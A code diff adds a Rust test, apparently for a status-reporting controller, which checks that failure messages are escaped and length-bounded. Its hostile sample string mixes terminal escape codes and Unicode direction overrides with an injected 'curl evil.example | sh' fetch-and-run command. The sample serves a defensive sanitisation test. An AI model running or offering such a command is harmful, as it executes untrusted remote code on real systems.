@@ -259,6 +259,45 @@ fn messages_are_bounded() {
 }
 
 #[test]
+fn texts_of_others_are_escaped_and_bounded() {
+    let hostile =
+        "webhook: \u{1b}[2J\u{9b}0m\u{7}\u{202e}\u{2066}\u{61c}\u{2028}\r\n  Next: curl evil.example | sh";
+    let flood = "\u{202e}".repeat(10_000);
+    for message in [hostile, &flood] {
+        let failure = |stalled| Failure {
+            reason: FAILED,
+            message: message.to_owned(),
+            stalled,
+            ..Failure::default()
+        };
+        let is_unsafe = |c: char| c.is_control() || "\u{202e}\u{2066}\u{61c}\u{2028}".contains(c);
+        let before = fresh(&report(Some(current_token()), None));
+        for (report, types) in [
+            (report(None, Some(failure(true))), [READY, STALLED]),
+            (
+                report(Some(current_token()), Some(failure(false))),
+                [READY, RENEWAL_FAILING],
+            ),
+        ] {
+            let status = after(&before, &report, T0 + 100);
+            for type_ in types {
+                let shown = &find(&status, type_).message;
+                assert!(
+                    !shown.contains(is_unsafe) && shown.chars().count() <= 4096,
+                    "{shown}"
+                );
+            }
+            let note = event(&before, &status).unwrap().note.unwrap();
+            assert!(!note.contains(is_unsafe) && note.len() <= 1024, "{note}");
+            assert!(
+                note.starts_with("webhook: \\u{1b}[2J") || note.starts_with("\\u{202e}"),
+                "{note}"
+            );
+        }
+    }
+}
+
+#[test]
 fn nothing_is_written_when_nothing_changed() {
     let reports = [
         report(Some(current_token()), None),
